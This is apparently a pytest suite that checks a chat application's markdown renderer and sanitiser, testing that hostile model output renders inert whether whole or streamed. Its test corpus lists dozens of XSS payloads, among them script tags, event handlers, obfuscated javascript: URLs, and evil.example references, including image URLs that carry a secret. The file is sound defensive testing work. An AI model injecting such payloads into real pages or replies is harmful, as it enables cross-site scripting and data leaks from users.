"""Hostile model output must come out inert, rendered whole or streamed in pieces."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest

from chat.render import IncrementalRenderer, render_markdown, sanitize_html

HOSTILE = [
    # Raw HTML: must be escaped by markdown, or removed by the sanitiser.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\x00<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    "<a href=jAvAsCrIpT&colon;alert&lpar;1&rpar;>x</a>",
    '<a href="https://ok.example" onclick=alert(1)>ok</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<p onmouseover=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>",
    "<b>unclosed\n\nnext <i>block\n\n<a href='javascript:alert(1)'>late",
    "> <script>alert(1)</script>",
    "**<script>**alert(1)**</script>**",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    "- [ ] <input type=text autofocus onfocus=alert(1)>",
    # Markdown links and images with dangerous URLs.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: javascript:alert(1)\n\n[x][r]",
    "[x][r]\n[r]: JAVASCRIPT:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<mailto:x@y.example?body=<script>>",
    '<http://evil.example/"onmouseover="alert(1)>',
    '[x](http://a "\\" onmouseover=alert(1) x=\\"")',
    "[x](http://a 'title' onclick='alert(1)')",
    "[x](http://a' onmouseover=alert(1) x=')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://example.com "<script>alert(1)</script>")',
    '![a" onerror="alert(1)](http://evil.example/x.png)',
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    # Code: shown, never run.
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n<iframe src=javascript:alert(1)>\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>\n\nalert(1)\n\n</script>",  # never closed
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Deep nesting (lists deep enough to exhaust Python-Markdown's recursion).
    "*" * 3000 + "x" + "*" * 3000 + "<script>alert(1)</script>",
    "- " * 500 + "<script>alert(1)</script>",
    "> " * 500 + "<script>alert(1)</script>",
]

FORBIDDEN_TAGS = {
    *("script", "iframe", "object", "embed", "svg", "math", "img", "style", "form"),
    *("base", "meta", "link", "frame", "frameset", "template", "video", "audio", "source"),
    *("button", "textarea", "select", "body", "html", "head", "noscript"),
    # Not `details`: tool-call blocks use it, and without on* attributes it is inert.
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "data", "poster", "xlink:href"}
SAFE_SCHEMES = {"http", "https", "mailto"}


class Elements(HTMLParser):
    """Every start tag with its attributes (entities decoded, as a browser reads them)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))


def scheme_of(url: str) -> str:
    cleaned = re.sub(r"[\x00-\x20\x7f]+", "", url).casefold()
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else ""


def assert_inert(html: str) -> None:
    for tag, attrs in Elements(html).elements:
        assert tag not in FORBIDDEN_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on"), html
            assert name != "style", html
            if name in URL_ATTRIBUTES:
                assert scheme_of(value or "") in SAFE_SCHEMES, html
        if tag == "a":
            assert dict(attrs).get("rel") == "noopener noreferrer nofollow", html
        if tag == "input":  # only a task list's checkbox, and inert
            assert dict(attrs).get("type", "checkbox") == "checkbox", html
            assert "disabled" in dict(attrs), html


def streamed(source: str, seed: int = 0) -> list[str]:
    """Every piece of HTML a browser receives while `source` streams in small deltas."""
    rng = random.Random(seed)
    renderer = IncrementalRenderer()
    pieces = []
    i = 0
    while i < len(source):
        step = rng.randint(1, max(5, len(source) // 100))
        renderer.feed(source[i : i + step])
        i += step
        frame = renderer.frame()
        pieces += [*frame.blocks, frame.tail]
    pieces += renderer.finish().blocks
    return [*pieces, renderer.html]  # last: the whole reply as finally stored


@pytest.mark.parametrize("source", HOSTILE)
def test_whole_render_is_inert(source):
    assert_inert(render_markdown(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_streamed_render_is_inert(source):
    for piece in streamed(source):
        assert_inert(piece)


@pytest.mark.parametrize("source", HOSTILE)
def test_sanitizer_alone_makes_raw_html_inert(source):
    # The admin runs stored HTML through sanitize_html, with no markdown in front.
    assert_inert(sanitize_html(source))


def test_hostile_corpus_is_large_enough():
    assert len(set(HOSTILE)) >= 50


def test_the_checker_catches_what_it_should():
    for bad in (
        "<script>x</script>",
        '<a href=" JaVa\tScript:x" rel="noopener noreferrer nofollow">x</a>',
        '<p onclick="x">x</p>',
        '<p style="color:red">x</p>',
        '<a href="/relative" rel="noopener noreferrer nofollow">x</a>',
        '<img src="https://x.example/a.png">',
    ):
        with pytest.raises(AssertionError):
            assert_inert(bad)


@pytest.mark.parametrize(
    "source",
    [
        "![chart](https://evil.example/x.png?q=secret)",
        "Look: ![chart](http://evil.example/x.png?q=secret) here.",
        '![chart](https://evil.example/x.png?q=secret "title")',
        "![chart][img]\n[img]: https://evil.example/x.png?q=secret",
        "- item ![chart](https://evil.example/x.png?q=secret)",
        "> ![chart](https://evil.example/x.png?q=secret)",
    ],
)
def test_remote_images_become_links(source):
    url = re.search(r"https?://evil\.example/x\.png\?q=secret", source).group(0)
    for html in (render_markdown(source), streamed(source)[-1]):
        elements = Elements(html).elements
        assert all(tag != "img" for tag, _ in elements)
        links = [dict(attrs) for tag, attrs in elements if tag == "a"]
        expected = {
            "class": "image-link",
            "href": url,
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
        }
        assert links == [expected]
        assert "\N{FRAME WITH PICTURE} chart" in html


def test_image_with_unsafe_url_is_just_its_alt_text():
    assert render_markdown("![chart](javascript:alert(1))") == "<p><span>chart</span></p>"


def test_image_inside_a_link_is_text_inside_that_link():
    html = render_markdown("[![chart](https://evil.example/x.png)](https://ok.example)")
    elements = Elements(html).elements
    assert [tag for tag, _ in elements] == ["p", "a", "span"]
    assert dict(elements[1][1])["href"] == "https://ok.example"


class Texts(HTMLParser):
    """The text inside each <code> element."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.code: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "code":
            self.depth += 1
            self.code.append("")

    def handle_endtag(self, tag):
        if tag == "code":
            self.depth -= 1

    def handle_data(self, data):
        if self.depth:
            self.code[-1] += data


@pytest.mark.parametrize(
    "source",
    [
        "```html\n<script>alert(1)</script>\n```",
        "```\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
    ],
)
def test_script_in_code_is_shown_as_text(source):
    for html in (render_markdown(source), streamed(source)[-1]):
        assert "<script>alert(1)</script>" in "".join(Texts(html).code)
        assert_inert(html)


def test_link_title_cannot_inject_attributes():
    html = render_markdown('[x](http://a.example "\\" onmouseover=alert(1) x=\\"")')
    ((_, attrs),) = [e for e in Elements(html).elements if e[0] == "a"]
    assert {name for name, _ in attrs} == {"href", "title", "target", "rel"}


def test_too_deep_nesting_is_shown_as_text():
    source = "- " * 500 + "<b>x</b>"  # a list in a list in a list...
    assert render_markdown(source) == "<p>" + "- " * 500 + "&lt;b&gt;x&lt;/b&gt;</p>"
    # ... and leaves nothing behind for the next render.
    assert render_markdown("*a*") == "<p><em>a</em></p>"


@pytest.mark.parametrize("source", ["[" * 4000, "![" * 2000, "[a](" * 2000, "[](" * 3000])
def test_a_flood_of_unmatched_brackets_is_shown_as_text(source):
    # Python-Markdown takes quadratic time on these; past a limit they are plain brackets.
    html = render_markdown(source)
    assert html.startswith("<p>") and "\\" not in html
    assert html.count("[") == source.count("[")
    assert "<a" not in html


def test_many_real_links_are_still_links():
    source = " ".join(f"[l{i}](https://e.com/{i}) [{i}]" for i in range(300))
    assert render_markdown(source).count('<a href="https://e.com/') == 300


def test_brackets_in_code_keep_no_backslash_when_the_guard_is_on():
    source = "`[[[x` " + "[" * 400 + "\n\n```\n" + "[" * 400 + "\n```"
    html = render_markdown(source)
    assert "<code>[[[x</code>" in html and "\\[" not in html
